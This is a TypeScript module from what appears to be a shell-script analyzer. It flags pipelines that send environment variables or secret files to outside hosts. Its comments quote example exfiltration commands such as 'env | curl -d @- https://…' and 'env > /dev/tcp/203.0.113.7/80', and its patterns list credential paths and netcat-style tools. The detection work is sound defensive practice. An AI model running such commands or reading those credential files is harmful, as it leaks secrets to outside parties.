import { toolOf } from '../../../analysis/commands/tool.ts';
import { mayNameSecret } from '../../../analysis/secrets/secret.ts';
import { FILTERS } from '../../../data/programs.ts';
import { type Command, everyPipeline, type Pipeline, type Script, type ShellWord } from '../../../model/shell.ts';
import { type Span, spanThrough } from '../../../model/source.ts';
import { hostOf, isThisMachine } from '../../../model/web-address.ts';

/** What a pipeline sends to another machine, as the object of a sentence, and where. */
export interface Sent {
  readonly at: Span;
  readonly what: string;
}

const VARIABLES = 'all of its variables';
const SECRETS = 'files with secrets';
const A_SECRET = 'a secret alone';

/**
 * `env | curl -d @- https://…`, `curl -d "$(env)" https://…`, `curl -d @/run/secrets/x https://…`. A secret in a header, or as a part of what is
 * sent, is how programs log in.
 */
export function sentSecrets({ commands }: Pipeline): Sent | undefined {
  let flow: Flow | undefined;
  for (const command of commands) {
    const name = toolOf(command)?.name ?? '';
    if (flow !== undefined && sendsInput(name, command)) return sentBy(flow, command);
    const own = ownData(name, command);
    if (own !== undefined) return { at: command.span, what: own };
    flow = flowAfter(command, name, flow);
    if (flow !== undefined && connects(command)) return sentBy(flow, command);
  }
  return undefined;
}

/** What goes through a pipe, and the command that prints it. */
interface Flow {
  readonly what: string;
  readonly start: Command;
}

function flowAfter(command: Command, name: string, before: Flow | undefined): Flow | undefined {
  const what = printedBy(command);
  if (what !== undefined) return { what, start: command };
  return FILTERS.has(name) || KEEPERS.has(name) ? before : undefined;
}

function sentBy({ what, start }: Flow, { span }: Command): Sent {
  return { at: spanThrough(start.span, span), what };
}

/** Further programs that pass on what they read. */
const KEEPERS: ReadonlySet<string> = new Set([
  'base64',
  'base32',
  'gzip',
  'xz',
  'bzip2',
  'zstd',
  'openssl',
  'xxd',
  'tar',
]);

/** What a command prints. */
function printedBy({ program, arguments: words }: Command): string | undefined {
  const texts = words.map(({ pieces }) => pieces);
  if (program === 'env' || program === 'printenv' || program === 'set')
    return texts.every((text) => text === '-0' || text === '--null') ? VARIABLES : undefined;
  if (program === 'export' || program === 'declare') return /^-[px]$/.test(texts.join(' ')) ? VARIABLES : undefined;
  if (!READERS.has(program)) return undefined;
  return texts.map(contentsOf).find((found) => found !== undefined);
}

const READERS: ReadonlySet<unknown> = new Set(['cat', 'tar', 'base64', 'gzip', 'zip']);

function contentsOf(path: string): string | undefined {
  if (/^\/proc\/(?:self|1|\$\$)\/environ$/.test(path)) return VARIABLES;
  return SECRET_FILES.test(path) ? SECRETS : undefined;
}

const SECRET_FILES =
  /^(?:\/run\/secrets(?:\/|$)|(?:~|\/root|\/home\/[^/]{1,40})\/\.(?:ssh|aws|docker|kube|gnupg|npmrc|netrc|git-credentials)(?:\/|$))/;

/** The words with data that a program sends: those after an option, or attached to it. */
const DATA_OPTION: ReadonlyMap<string, RegExp> = new Map([
  ['curl', /^(?:-d|--data(?:-binary|-raw|-ascii|-urlencode)?|-F|--form|-T|--upload-file|--json)(?:=(.*)|$)/s],
  ['wget', /^--(?:post-file|post-data|body-file|body-data)(?:=(.*)|$)/s],
]);

function ownData(name: string, command: Command): string | undefined {
  const option = DATA_OPTION.get(name);
  if (option === undefined || !isForElsewhere(command.arguments)) return undefined;
  const data = dataIn(command.arguments, option);
  const named = data.flatMap(
    ({ pieces }) => contentsOf(pieces.replace(/^(?:--[\w-]{1,20}=)?(?:[\w-]{1,40}=)?[@<]/, '')) ?? [],
  )[0];
  const file = data
    .flatMap(({ pieces }) => (/^--(?:post|body)-file=/.test(pieces) ? [pieces.slice(pieces.indexOf('=') + 1)] : []))
    .map(contentsOf)[0];
  const all = data.some((word) => printsVariables(word, command)) ? VARIABLES : undefined;
  return named ?? file ?? all ?? (data.some(isSecretVariable) ? A_SECRET : undefined);
}

/** `"$DB_PASSWORD"`, alone; in Compose, two dollars are one. */
function isSecretVariable({ raw }: ShellWord): boolean {
  const name = /^["']?\${1,2}\{?(\w+)\}?["']?$/.exec(raw)?.[1];
  return name !== undefined && mayNameSecret(name);
}

function dataIn(words: readonly ShellWord[], option: RegExp): readonly ShellWord[] {
  return words.filter(({ pieces }, at) => {
    const before = words[at - 1]?.pieces ?? '';
    return (option.test(before) && !before.includes('=')) || (option.test(pieces) && pieces.includes('='));
  });
}

/** `"$(env)"`, alone or through filters */
function printsVariables({ span }: ShellWord, { substitutions }: Command): boolean {
  return substitutions.some(({ script }) => isWithin(script.span, span) && endsWithVariables(script));
}

function isWithin(inner: Span, outer: Span): boolean {
  return inner.file === outer.file && outer.start <= inner.start && inner.end <= outer.end;
}

function endsWithVariables(script: Script): boolean {
  return [...everyPipeline(script)].some(({ commands }) => {
    const at = commands.findIndex((command) => printedBy(command) === VARIABLES);
    return at !== -1 && commands.slice(at + 1).every((command) => KEEPERS.has(toolOf(command)?.name ?? ''));
  });
}

/** Whether a program sends what it reads. */
function sendsInput(name: string, { arguments: words }: Command): boolean {
  if (CONNECTORS.has(name)) return !words.some(({ pieces }) => isThisMachine(pieces) || /^-[a-z]*[lz]/.test(pieces));
  const option = DATA_OPTION.get(name);
  if (option === undefined || !isForElsewhere(words)) return false;
  return dataIn(words, option).some(({ pieces }) => /(?:^|[@=])(?:-|\/dev\/stdin)$/.test(pieces));
}

const CONNECTORS: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet']);

/** `env > /dev/tcp/203.0.113.7/80` */
function connects({ redirects }: Command): boolean {
  return redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\/(?!localhost\/|127\.)./.test(target?.pieces ?? ''));
}

/** A name without a dot is that of a service of the same project. */
function isForElsewhere(words: readonly ShellWord[]): boolean {
  return words.some(({ pieces }) => {
    const host = hostOf(pieces) ?? '';
    return host.includes('.') && !isThisMachine(host);
  });
}
